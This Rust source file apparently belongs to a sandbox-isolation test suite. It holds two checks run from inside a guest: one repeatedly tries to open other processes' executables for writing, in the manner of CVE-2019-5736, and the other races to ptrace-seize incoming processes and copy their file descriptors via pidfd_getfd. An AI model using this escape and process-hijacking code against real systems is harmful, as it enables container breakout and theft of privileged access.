//! Attacks that last: they lie in wait for processes that come into the guest from outside.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::sys::ptrace;
use nix::sys::signal::{Signal, kill};
use nix::sys::wait::{WaitPidFlag, waitpid};
use nix::unistd::Pid;

use crate::answer::{Answer, call, number};
use crate::{Check, with};

pub const CHECKS: &[Check] = &[
    with("X01", "exe_write_loop", "SECONDS", exe_write_loop),
    with("X02", "ptrace_all_loop", "SECONDS", ptrace_all_loop),
];

fn deadline(args: &[String]) -> Instant {
    Instant::now() + Duration::from_secs(number(args, 0, 5).unsigned_abs())
}

/// Processes now, but for this one.
fn processes() -> impl Iterator<Item = i32> {
    let own = i32::try_from(std::process::id()).unwrap_or(0);
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).filter(move |pid| *pid != own)
}

/// Opens the programs of all processes for writing again and again (CVE-2019-5736): the counts of the answers, and what
/// could be opened. A guest may open programs of its own tree that nobody runs at that moment.
fn exe_write_loop(args: &[String]) -> Answer {
    let end = deadline(args);
    let (mut answers, mut opened): (BTreeMap<String, u64>, BTreeSet<String>) = Default::default();
    while Instant::now() < end {
        for pid in processes() {
            let path = format!("/proc/{pid}/exe");
            match fs::File::options().write(true).open(&path) {
                Ok(_) => {
                    opened.insert(fs::read_link(&path).map_or("?".to_owned(), |target| target.display().to_string()));
                }
                Err(error) => {
                    let errno = Errno::from_raw(error.raw_os_error().unwrap_or(0));
                    *answers.entry(format!("{errno:?}")).or_default() += 1;
                }
            }
        }
    }
    let counts = answers.iter().map(|(errno, count)| format!("{errno}={count}"));
    let opened = opened.into_iter().collect::<Vec<_>>().join(",");
    Answer::Text(format!("{} opened={opened}", counts.collect::<Vec<_>>().join(" ")))
}

/// What was found in processes that could be seized.
#[derive(Default)]
struct Loot {
    seized: u64,
    denied: u64,
    effective: u64,
    permitted: u64,
    descriptors: BTreeSet<String>,
    stolen: BTreeSet<String>,
}

/// Seizes every process that is not there yet: how many, the union of their capabilities, and what their descriptors
/// above 2 lead to; `stolen` are those that pidfd_getfd handed over.
fn ptrace_all_loop(args: &[String]) -> Answer {
    let end = deadline(args);
    let mut known: BTreeSet<i32> = processes().collect();
    let mut last = known.iter().copied().max().unwrap_or(1).max(i32::try_from(std::process::id()).unwrap_or(1));
    let mut loot = Loot::default();
    while Instant::now() < end {
        // The next numbers are tried before the kernel gives them out, so that a process is met at its birth.
        let next = (last + 1..last + 24).collect::<Vec<_>>();
        let fresh: Vec<i32> = next.into_iter().chain(processes().filter(|pid| !known.contains(pid))).collect();
        for pid in fresh {
            match ptrace::seize(Pid::from_raw(pid), ptrace::Options::empty()) {
                Ok(()) => loot.take(pid),
                Err(Errno::ESRCH) => continue,
                Err(_) => loot.denied += 1,
            }
            known.insert(pid);
            last = pid;
        }
    }
    Answer::Text(format!(
        "seized={} denied={} capeff={:x} capprm={:x} fds={} stolen={}",
        loot.seized,
        loot.denied,
        loot.effective,
        loot.permitted,
        loot.descriptors.into_iter().collect::<Vec<_>>().join(","),
        loot.stolen.into_iter().collect::<Vec<_>>().join(","),
    ))
}

impl Loot {
    /// Looks through a seized process and lets it go.
    fn take(&mut self, pid: i32) {
        self.seized += 1;
        let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let set = |field: &str| {
            let line = status.lines().find_map(|line| line.strip_prefix(field));
            line.and_then(|text| u64::from_str_radix(text.trim(), 16).ok()).unwrap_or(0)
        };
        self.effective |= set("CapEff:");
        self.permitted |= set("CapPrm:");
        self.descriptors(pid);
        let _ = kill(Pid::from_raw(pid), Signal::SIGCONT);
        if ptrace::interrupt(Pid::from_raw(pid)).is_ok() {
            let _ = waitpid(Pid::from_raw(pid), Some(WaitPidFlag::__WALL));
        }
        let _ = ptrace::detach(Pid::from_raw(pid), None);
    }

    fn descriptors(&mut self, pid: i32) {
        let pidfd = call(libc::SYS_pidfd_open, &[i64::from(pid), 0]);
        for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
            let number: i64 = entry.file_name().to_str().and_then(|name| name.parse().ok()).unwrap_or(0);
            let target = fs::read_link(entry.path()).map_or("?".to_owned(), |target| target.display().to_string());
            if number > 2 {
                self.descriptors.insert(target.clone());
            }
            if let Ok(stolen) = pidfd.and_then(|pidfd| call(libc::SYS_pidfd_getfd, &[pidfd, number, 0])) {
                self.stolen.insert(target);
                let _ = call(libc::SYS_close, &[stolen]);
            }
        }
        if let Ok(pidfd) = pidfd {
            let _ = call(libc::SYS_close, &[pidfd]);
        }
    }
}
